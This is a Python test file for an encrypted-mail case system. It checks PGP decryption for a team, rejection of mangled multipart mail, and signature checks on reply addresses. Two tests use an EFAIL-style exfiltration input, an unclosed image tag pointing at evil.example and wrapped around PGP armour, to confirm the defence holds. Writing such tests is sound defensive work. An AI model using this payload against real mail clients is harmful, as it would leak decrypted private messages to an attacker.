# SPDX-License-Identifier: Apache-2.0
"""What was encrypted to the team: opened once, in memory, for the case and not for one person."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime

import pytest

from tests.mail import post
from tocsin.core.mail.addresses import Thread
from tocsin.core.mail_out.keys import KnownKey, Source
from tocsin.core.vocabulary import Refused
from tocsin.services import cases, sealing
from tocsin.services.mail import threads
from tocsin.services.ports.openpgp import ClearText, Opened, Signature, Signed
from tocsin.services.post import members
from tocsin.testing.house import House, house

WRAPPED = (
    'Content-Type: multipart/encrypted; boundary="b"; protocol="application/pgp-encrypted"\r\n\r\n--b\r\n'
    "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n"
    "-----BEGIN PGP MESSAGE-----\r\n\r\nhere it is\r\n-----END PGP MESSAGE-----\r\n--b--\r\n"
)
HEAD = f"From: Ann <ann@example.net>\r\nTo: {post.BOX}\r\nSubject: ...\r\nMessage-ID: <s@e>\r\n"
INSIDE = b"Content-Type: text/plain\r\nSubject: The real subject\r\n\r\nThe real words."


@dataclass
class Keys:
    """A key holder that has the team's key."""

    answer: Opened | Refused
    asked: list[bytes] = field(default_factory=list)

    def open(
        self, project: str, ciphertext: bytes, known: Sequence[bytes] = (), purpose: str = "mail.open"
    ) -> Opened | Refused:
        self.asked.append(ciphertext)
        return self.answer


@pytest.fixture
def home() -> House:
    return house()


def holding(home: House, answer: Opened | Refused) -> Keys:
    keys = Keys(answer)
    assert home.desk.mail
    home.desk = replace(home.desk, mail=replace(home.desk.mail, keys=keys))
    return keys


def test_what_was_encrypted_to_the_team_is_opened_once_and_read_by_every_member(home: House) -> None:
    keys = holding(home, Opened(plain=INSIDE))
    post.deliver(home, (HEAD + WRAPPED).encode())
    (ref,) = post.refs(home)
    for person in (home.dana, home.li):
        actor = home.desk.people.actor(person, post.PROJECT)
        assert actor
        opened = cases.open_case(home.desk, ref, actor, "case.read")
        assert opened
        assert opened.case.title == "The real subject"
        assert opened.case.report.reproduce == "The real words."
        assert opened.case.report.letter
        assert opened.case.report.letter.opened
    assert len(keys.asked) == 1
    assert keys.asked[0].startswith(b"-----BEGIN PGP MESSAGE-----")


@pytest.mark.parametrize("front", ["", "Open this: <img src='http://evil.example/?"])
def test_what_a_server_made_a_mixed_mail_of_is_opened_alone_and_with_words_beside_it_not_at_all(
    home: House, front: str
) -> None:
    keys = holding(home, Opened(plain=INSIDE))
    kind = 'Content-Type: multipart/encrypted; boundary="b"; protocol="application/pgp-encrypted"'
    assert kind in WRAPPED
    mangled = WRAPPED.replace(kind, 'Content-Type: multipart/mixed; boundary="b"')
    mangled = mangled.replace("--b\r\n", f"--b\r\nContent-Type: text/plain\r\n\r\n{front}\r\n--b\r\n", 1)
    post.deliver(home, (HEAD + mangled).encode())
    (ref,) = post.refs(home)
    case = post.look(home, ref).case
    assert (case.title, len(keys.asked)) == (("...", 0) if front else ("The real subject", 1))


def test_armour_in_the_text_is_opened_alone_and_joined_with_nothing_around_it(home: House) -> None:
    holding(home, Opened(plain=b"Just words, no header."))
    text = "<img src='http://evil.example/?\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----\n'>"
    post.deliver(home, post.mail(text))
    (ref,) = post.refs(home)
    report = post.look(home, ref).case.report
    assert report.reproduce == "Just words, no header."


def test_what_cannot_be_opened_is_kept_sealed_with_the_reason(home: House) -> None:
    holding(home, Refused(code="unreadable", because="The message was altered.", rule="RFC 9580"))
    post.deliver(home, (HEAD + WRAPPED).encode())
    (ref,) = post.refs(home)
    report = post.look(home, ref).case.report
    assert "not opened: The message was altered." in report.reproduce
    assert report.letter
    assert report.letter.raw


SIGNED = (
    'Content-Type: multipart/signed; boundary="s"; micalg=pgp-sha512; protocol="application/pgp-signature"\r\n\r\n'
    "--s\r\n"
    "Content-Type: text/plain\r\n\r\n/assign\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n"
    "-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n-----END PGP SIGNATURE-----\r\n--s--\r\n"
)


MADE = datetime(2026, 3, 1, tzinfo=UTC)


@dataclass
class Reads:
    """Somebody who can check signatures, and finds this."""

    state: Signed
    seen: list[tuple[bytes, Sequence[bytes]]] = field(default_factory=list)

    def verify(self, body: bytes, signature: bytes, known: Sequence[bytes]) -> Signature:
        self.seen.append((body, known))
        return Signature(state=self.state if known else Signed.UNKNOWN, by="F" if known else "", made_at=MADE)

    def clear(self, body: bytes, known: Sequence[bytes]) -> ClearText:
        raise AssertionError("nothing of it is signed inside of the text")


def signed_by_dana(to: str, message_id: str) -> bytes:
    return f"From: Dana <dana@example.org>\r\nTo: {to}\r\nMessage-ID: <{message_id}>\r\n{SIGNED}".encode()


@pytest.mark.parametrize("state", [Signed.GOOD, Signed.BAD, Signed.UNKNOWN])
def test_a_members_signature_counts_at_an_address_of_their_own_and_once(
    home: House, state: Signed, monkeypatch
) -> None:
    reads = Reads(state)
    home.desk = replace(home.desk, post=replace(home.desk.post, reads=reads))
    monkeypatch.setattr(members, "usable_key", lambda desk, project, person: KEY if person == home.dana else None)
    post.deliver(home, post.mail())
    (ref,) = post.refs(home)
    places, opened = sealing.Places(home.desk.sealer.instance), post.look(home, ref)
    own = threads.reply_address(opened.key, places, post.BOX, ref, Thread(room="team", holder=home.dana))
    other = threads.reply_address(opened.key, places, post.BOX, ref, Thread(room="team", holder=home.li))
    post.deliver(home, signed_by_dana(other, "a@e"), to=other)
    assert not post.look(home, ref).case.lead, "an address of somebody else"
    post.deliver(home, signed_by_dana(own, "b@e"), to=own)
    assert bool(post.look(home, ref).case.lead) == (state is Signed.GOOD)
    assert reads.seen[0][0].startswith(b"Content-Type: text/plain\r\n\r\n/assign")
    before = post.look(home, ref).case.seq
    post.deliver(home, signed_by_dana(own, "c@e"), to=own)
    assert post.look(home, ref).case.seq == before, "sent again by somebody"


KEY = KnownKey(
    body=b"cert",
    fingerprint="F",
    source=next(iter(Source)),
    seen_at=datetime(2026, 3, 1, tzinfo=UTC),
    made_at=datetime(2026, 3, 1, tzinfo=UTC),
)
